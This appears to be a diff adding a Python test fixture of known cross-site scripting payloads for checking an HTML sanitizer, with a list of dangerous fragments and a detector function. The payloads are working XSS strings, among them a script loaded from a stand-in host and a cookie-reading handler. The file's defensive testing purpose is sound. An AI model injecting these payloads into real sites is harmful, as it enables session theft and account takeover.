@@ -1,0 +1,78 @@
+"""Known XSS payloads (SEC-HTML): script tags, event handlers, javascript: and data: URLs, SVG, encoded variants."""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(document.cookie)">',
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<img src=`javascript:alert(1)`>",
+    "<body onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<p style="x:expression(alert(1))">ie</p>',
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<base href="javascript:alert(1)//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    '<p onmouseover="alert(1)">hover</p>',
+    '<a href="https://ok.example" onclick="alert(1)">ok link</a>',
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+]
+
+# What must never survive as live markup, checked case-insensitively on the rendered or stored text.
+DANGEROUS = [
+    "<script",
+    "onerror=",
+    "onload=",
+    "onbegin=",
+    "onfocus=",
+    "ontoggle=",
+    "onstart=",
+    "onmouseover=",
+    "onclick=",
+    "javascript:",
+    "vbscript:",
+    "data:text/html",
+    "<iframe",
+    "<object",
+    "<embed",
+    "<svg",
+    "<math",
+    "<base",
+    "<meta",
+    "<link",
+    "<form",
+    "<input",
+    "style=",
+    "srcdoc",
+]
+
+
+def live_markup(text: str) -> list[str]:
+    """The dangerous fragments present in ``text`` as markup (escaped text like ``&lt;script`` does not count)."""
+    lowered = text.lower()
+    return [fragment for fragment in DANGEROUS if fragment in lowered]
